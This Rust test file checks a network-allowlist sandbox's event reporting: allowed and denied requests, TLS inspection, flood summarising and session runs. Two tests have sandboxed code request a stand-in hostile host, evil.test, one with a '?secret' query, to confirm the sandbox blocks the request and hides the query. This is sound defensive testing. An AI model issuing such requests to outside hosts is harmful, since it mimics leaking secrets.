//! Decisions of the way out as they are told while a run goes on: each with what became of it, and no more than somebody can read.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::sync::mpsc;
use std::time::Duration;

use serde_json::Value;

use crate::inspected::{FETCH as FETCH_TLS, Scene, hello};
use crate::origin::{FETCH, Origin};
use crate::probe::{Wall, interpreter, run, walled_with};
use crate::stage::Stage;
use crate::tls_origin::Authority;

fn stage(origin: &Origin) -> Option<Stage> {
    walled_with(&origin.listed())
}

fn events(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// What the events called `name` hold, in their order.
fn all<'a>(events: &'a [Value], name: &str) -> Vec<&'a Value> {
    events.iter().filter(|event| event["event"] == name).map(|event| &event[name]).collect()
}

fn told(stage: &Stage, code: &str, arguments: &[&str]) -> Option<Vec<Value>> {
    let python = interpreter()?;
    let argv = [&[python.to_str().unwrap(), "-c", code], arguments].concat();
    Some(events(&run(stage, Wall::Native, &["--events"], &argv).run().expect(0, &[]).text()))
}

#[test]
fn a_decision_is_told_before_its_answer_comes_and_its_end_when_it_ends() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (permit, permitted) = mpsc::channel();
    std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        assert!(stream.read(&mut [0; 4096]).unwrap() > 0);
        // Who was told only at the end would wait for it in vain.
        permitted.recv_timeout(Duration::from_secs(60)).unwrap();
        stream.write_all(b"HTTP/1.1 202 OK\r\nContent-Length: 6\r\n\r\nhello\n").unwrap();
    });
    let Some(stage) = walled_with(&format!("net: {{ mode: allowlist, localhost: [{port}] }}\n")) else { return };
    let Some(python) = interpreter() else { return };
    let url = format!("http://localhost:{port}/slow?secret");
    let mut child = run(&stage, Wall::Native, &["--events"], &[python.to_str().unwrap(), "-c", FETCH, &url]).start();
    let mut lines = Vec::new();
    for line in BufReader::new(child.stdout.take().unwrap()).lines() {
        let event: Value = serde_json::from_str(&line.unwrap()).unwrap();
        if event["event"] == "decided" {
            permit.send(()).unwrap();
        }
        lines.push(event);
    }
    assert!(child.wait().unwrap().success(), "{lines:#?}");
    let run = &lines[0]["runId"];
    let of_the_network: Vec<&Value> =
        lines.iter().filter(|one| ["decided", "carried"].contains(&one["event"].as_str().unwrap())).collect();
    let [decided, carried] = of_the_network[..] else { panic!("{lines:#?}") };
    assert_eq!((&decided["runId"], &carried["runId"], &decided["v"]), (run, run, &1.into()));
    let wanted = serde_json::json!({
        "number": 1, "host": "localhost", "port": port, "via": "http", "method": "GET", "path": "/slow",
        "allowed": true, "rule": decided["decided"]["rule"],
    });
    assert_eq!(decided["decided"], wanted, "the query is not told");
    assert!(wanted["rule"].as_str().unwrap().contains(&port.to_string()), "{wanted}");
    let carried = &carried["carried"];
    for name in ["number", "host", "port", "via", "method", "path"] {
        assert_eq!(carried[name], wanted[name], "{name}");
    }
    let came = ["bytesUp", "bytesDown", "status", "ending"].map(|name| &carried[name]);
    assert_eq!(came, [&0.into(), &6.into(), &202.into(), &Value::from("complete")], "{carried}");
    assert!(carried["latencyMs"].is_u64() && carried["tookMs"].is_u64(), "{carried}");
    let text = serde_json::to_string(&lines).unwrap();
    assert!(!text.replace(&url, "").contains("slow?secret"), "{text}");
}

#[test]
fn a_denial_is_told_with_its_reason_and_nothing_is_carried() {
    let origin = Origin::start();
    let Some(stage) = stage(&origin) else { return };
    let Some(events) = told(&stage, FETCH, &["http://evil.test/x?secret", &origin.url("/here")]) else { return };
    let decided = all(&events, "decided");
    let [denied, allowed] = decided[..] else { panic!("{events:#?}") };
    assert_eq!(
        (&denied["host"], &denied["path"], &denied["allowed"]),
        (&"evil.test".into(), &"/x".into(), &false.into())
    );
    assert_eq!(denied["reason"], "net.not-listed");
    assert_eq!((&allowed["host"], &allowed["allowed"]), (&"localhost".into(), &true.into()));
    let carried = all(&events, "carried");
    assert_eq!(carried.len(), 1, "{events:#?}");
    assert_eq!(carried[0]["number"], allowed["number"]);
    // As before, a violation comes as well, and no line of a run without an allowlist.
    assert_eq!(all(&events, "violation").len(), 1);
    let without = walled_with("").and_then(|stage| told(&stage, "print(1)", &[]));
    assert!(without.is_none_or(|events| all(&events, "decided").is_empty()));
}

#[test]
fn requests_in_opened_tls_are_told_beside_their_tunnel() {
    let authority = Authority::new();
    let origin = authority.origin("127.0.0.1", hello);
    let net =
        format!("allow: [{{ host: 127.0.0.1, ports: [{}], methods: [GET], paths: [/a], inspect: true }}]", origin.port);
    let Some(scene) = Scene::new(&authority, &net) else { return };
    let Some(python) = interpreter() else { return };
    let (get, put) = (format!("GET {}", origin.url("/a")), format!("PUT {}", origin.url("/a")));
    let argv = ["--events", "--", python.to_str().unwrap(), "-c", FETCH_TLS, &get, &put];
    let ended = scene.stage.ringfence([&["run", "-q", "--backend", "native"][..], &argv].concat());
    let ended = ended.env("SSL_CERT_FILE", scene.trusted()).run().expect(0, &[]);
    let events = events(&ended.text());
    let short = |one: &Value| {
        let [via, method] = ["via", "method"].map(|name| one[name].as_str().unwrap_or("-").to_owned());
        format!("{via} {method} {}", one["allowed"])
    };
    let decided: Vec<String> = all(&events, "decided").into_iter().map(short).collect();
    assert_eq!(decided, ["connect - true", "tls GET true", "connect - true", "tls PUT false"], "{events:#?}");
    let statuses: Vec<&Value> = all(&events, "carried").into_iter().filter(|one| one["via"] == "tls").collect();
    assert_eq!(statuses.len(), 1, "{events:#?}");
    assert_eq!((&statuses[0]["status"], &statuses[0]["path"]), (&200.into(), &"/a".into()));
}

/// Asks the first port for so many paths on one connection, and then for another host.
const MANY: &str = "
import socket, sys
port, count = int(sys.argv[1]), int(sys.argv[2])
with socket.create_connection(('127.0.0.1', 3128), 20) as s:
    for number in range(count):
        s.sendall(f'GET http://localhost:{port}/0 HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n'.encode())
        answer = b''
        while b'\\r\\n\\r\\n' not in answer: answer += s.recv(65536)
        assert b' 200 ' in answer, answer
    s.sendall(b'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); s.recv(99)
";

#[test]
fn a_flood_is_told_in_part_with_the_count_of_what_was_left_out() {
    let origin = Origin::start();
    let Some(stage) = stage(&origin) else { return };
    let Some(events) = told(&stage, MANY, &[&origin.port.to_string(), "4000"]) else { return };
    let (decided, carried) = (all(&events, "decided"), all(&events, "carried"));
    let (denied, allowed): (Vec<&Value>, Vec<&Value>) = decided.into_iter().partition(|one| one["allowed"] == false);
    let seconds = events.last().unwrap()["outcome"]["resourceUsage"]["wallTimeMs"].as_u64().unwrap() / 1000 + 1;
    assert!(allowed.len() as u64 <= 256 + 32 * seconds, "{} in {seconds} s", allowed.len());
    assert!(allowed.len() >= 256, "the probe proves nothing: {}", allowed.len());
    let untold: u64 = all(&events, "untold").into_iter().map(|one| one["allowed"].as_u64().unwrap()).sum();
    assert_eq!(
        (allowed.len() as u64 + untold, denied.len()),
        (4000, 1),
        "each is told or counted, and no denial hidden"
    );
    assert_eq!(carried.len(), allowed.len());
    // The outcome has them all.
    let network = events.last().unwrap()["outcome"]["network"].to_string();
    assert!(network.contains("\"count\":4000"), "{network}");
}

#[test]
fn the_end_is_written_down_while_nobody_reads_what_is_told_and_all_of_it_comes_later() {
    let origin = Origin::start();
    let Some(stage) = stage(&origin) else { return };
    let Some(python) = interpreter() else { return };
    let argv = [python.to_str().unwrap(), "-c", MANY, &origin.port.to_string(), "600"];
    // More lines than a pipe holds and than wait for a reader.
    let mut child = run(&stage, Wall::Native, &["--events"], &argv).start();
    let begun = std::time::Instant::now();
    let is_written = || std::fs::read_to_string(stage.ledger()).is_ok_and(|text| text.contains("\"count\":600"));
    while !is_written() {
        assert!(begun.elapsed() < Duration::from_secs(60), "it waits for a reader");
        std::thread::sleep(Duration::from_millis(50));
    }
    let mut text = String::new();
    child.stdout.take().unwrap().read_to_string(&mut text).unwrap();
    assert!(child.wait().unwrap().success());
    let events = events(&text);
    let allowed = all(&events, "decided").into_iter().filter(|one| one["allowed"] == true).count() as u64;
    let untold: u64 = all(&events, "untold").into_iter().map(|one| one["allowed"].as_u64().unwrap()).sum();
    assert_eq!(allowed + untold, 600, "each is told or counted");
    assert_eq!(events.last().unwrap()["event"], "ended");
}

#[test]
fn a_session_tells_each_run_what_it_asked_for() {
    let origin = Origin::start();
    let Some(stage) = stage(&origin) else { return };
    let Some(python) = interpreter() else { return };
    let name = "told";
    stage.ringfence(["session", "start", name]).run().expect(0, &[]);
    // An end that comes after that of its run belongs to no run.
    let code = format!("{FETCH}\nimport time; time.sleep(0.5)");
    let fetch = |path: &str| {
        let argv =
            ["session", "exec", "--events", name, "--", python.to_str().unwrap(), "-c", &code, &origin.url(path)];
        events(&stage.ringfence(argv).run().text())
    };
    let both = [fetch("/one"), fetch("/two")];
    stage.ringfence(["session", "stop", name]).run();
    for (events, path) in both.iter().zip(["/one", "/two"]) {
        let (decided, carried) = (all(events, "decided"), all(events, "carried"));
        assert_eq!((decided.len(), carried.len()), (1, 1), "{events:#?}");
        assert_eq!((&decided[0]["path"], &carried[0]["status"]), (&path.into(), &200.into()));
        let mut of_the_network =
            events.iter().filter(|one| ["decided", "carried"].contains(&one["event"].as_str().unwrap()));
        assert!(of_the_network.all(|one| one["runId"] == events[0]["runId"]), "{events:#?}");
    }
}
